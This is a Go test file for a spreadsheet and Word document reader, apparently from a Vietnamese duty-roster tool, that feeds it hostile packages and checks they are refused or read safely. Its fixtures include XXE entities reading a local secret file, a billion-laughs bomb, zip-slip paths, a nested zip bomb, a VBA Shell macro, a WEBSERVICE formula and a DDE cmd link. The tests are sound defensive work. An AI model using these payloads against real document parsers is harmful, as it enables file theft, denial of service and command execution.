package sheet

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// withParts adds parts to a package.
func withParts(t testing.TB, data []byte, parts map[string]string) []byte {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	all := map[string]string{}
	for _, f := range z.File {
		b, err := part(z, f.Name)
		if err != nil {
			t.Fatal(err)
		}
		all[f.Name] = string(b)
	}
	for name, text := range parts {
		all[name] = text
	}
	return packed(t, all)
}

func inlineCell(ref, text string) string {
	return `<c r="` + ref + `" t="inlineStr"><is><t>` + text + `</t></is></c>`
}

// dutySheet is a worksheet of one shift; more goes before its rows, name into the person's cell.
func dutySheet(more, name string) string {
	return `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">` + more + `<sheetData>` +
		`<row r="1">` + inlineCell("A1", "Ngày") + inlineCell("B1", "Người trực") + `</row>` +
		`<row r="2">` + inlineCell("A2", "08/02/2027") + name + `</row></sheetData></worksheet>`
}

const (
	laughs = `<!DOCTYPE x [<!ENTITY a "haha haha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>`
	wordNs = ` xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"`
)

// TestHostilePackages opens packages made to reach out, to run something or to
// grow: what is dangerous in them is refused or read as the plain text it is.
func TestHostilePackages(t *testing.T) {
	secret := filepath.Join(t.TempDir(), "secret")
	if err := os.WriteFile(secret, []byte("MAT-KHAU-CUA-MAY"), 0o600); err != nil {
		t.Fatal(err)
	}
	outside := `<!DOCTYPE x [<!ENTITY e SYSTEM "file://` + secret + `"><!ENTITY % p SYSTEM "http://127.0.0.1:1/x.dtd"> %p;]>`
	plain := workbook(t, dutySheet("", inlineCell("B2", "Nguyễn Văn An")))
	for _, c := range []struct {
		name, file string
		data       []byte
		refused    bool   // or read with
		person     string // this person
	}{
		{"a file named in an entity", "a.xlsx", workbook(t, outside+dutySheet("", inlineCell("B2", "&e;"))), true, ""},
		{"a file named in an entity, Word", "a.docx", packed(t, map[string]string{"word/document.xml": outside + `<w:document` + wordNs + `><w:body><w:tbl><w:tr><w:tc><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:tc></w:tr></w:tbl></w:body></w:document>`}), true, ""},
		{"a billion laughs", "a.xlsx", workbook(t, laughs+dutySheet("", inlineCell("B2", "&d;"))), true, ""},
		{"a billion laughs in the shared texts", "a.xlsx", withParts(t, workbook(t, dutySheet("", `<c r="B2" t="s"><v>0</v></c>`)), map[string]string{
			"xl/sharedStrings.xml": laughs + `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&d;</t></si></sst>`}), true, ""},
		{"names that climb out of the folder", "../../etc/passwd.xlsx", withParts(t, plain, map[string]string{"../../../../tmp/trucban-escaped": "x", "/tmp/trucban-escaped": "x", `..\..\trucban-escaped`: "x"}), false, "Nguyễn Văn An"},
		{"a package in the package", "a.xlsx", withParts(t, plain, map[string]string{"xl/embeddings/a.xlsx": string(plain), "xl/media/b.zip": string(packed(t, map[string]string{"c": strings.Repeat("0", 1<<20)}))}), false, "Nguyễn Văn An"},
		{"macros", "a.xlsm", withParts(t, plain, map[string]string{"xl/vbaProject.bin": "\xd0\xcf\x11\xe0 Sub Auto_Open() Shell(\"calc\")"}), false, "Nguyễn Văn An"},
		{"a page that claims every cell", "a.xlsx", workbook(t, dutySheet(`<dimension ref="A1:XFD1048576"/>`, inlineCell("B2", "Nguyễn Văn An"))), false, "Nguyễn Văn An"},
		{"a formula counts by its saved value", "a.xlsx", workbook(t, dutySheet("", `<c r="B2" t="str"><f>WEBSERVICE("http://127.0.0.1:1/"&amp;A1)</f><v>Nguyễn Văn An</v></c>`)), false, "Nguyễn Văn An"},
		{"a workbook outside", "a.xlsx", withParts(t, plain, map[string]string{"xl/externalLinks/externalLink1.xml": `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`}), false, "Nguyễn Văn An"},
		{"a table that is larger than it says", "a.xlsx", lying(t, plain, "xl/worksheets/sheet1.xml"), true, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			r, err := Read(c.file, c.data, now)
			var no *Refusal
			switch {
			case c.refused && !errors.As(err, &no):
				t.Fatalf("read as %v, %v", lines(r), err)
			case c.refused:
				return
			case err != nil:
				t.Fatal(err)
			}
			if got := strings.Join(lines(r), "\n"); len(r.Rows) != 1 || !strings.Contains(got, c.person) {
				t.Errorf("read as %q", got)
			}
		})
	}
	for _, path := range []string{"/tmp/trucban-escaped", "../trucban-escaped", "trucban-escaped"} {
		if _, err := os.Stat(path); err == nil {
			t.Errorf("%s was written", path)
		}
	}
	text, err := Text(context.Background(), "a.docx", packed(t, map[string]string{"word/document.xml": outside + `<w:document` + wordNs + `><w:body><w:p><w:r><w:t>a&e;</w:t></w:r></w:p></w:body></w:document>`}))
	if err == nil || strings.Contains(text, "MAT-KHAU") {
		t.Errorf("a document with an entity is read as %q", text)
	}
}

// lying halves the size a package gives for one of its parts, in its directory and beside the part.
func lying(t testing.TB, data []byte, name string) []byte {
	t.Helper()
	out := bytes.Clone(data)
	for sig, at := range map[string]struct{ size, name int }{"PK\x01\x02": {24, 46}, "PK\x03\x04": {22, 30}} {
		for i := 0; i+at.name+len(name) <= len(out); i++ {
			if string(out[i:i+4]) == sig && string(out[i+at.name:i+at.name+len(name)]) == name {
				size := binary.LittleEndian.Uint32(out[i+at.size:])
				binary.LittleEndian.PutUint32(out[i+at.size:], size/2)
			}
		}
	}
	if bytes.Equal(out, data) {
		t.Fatal("no such part")
	}
	return out
}
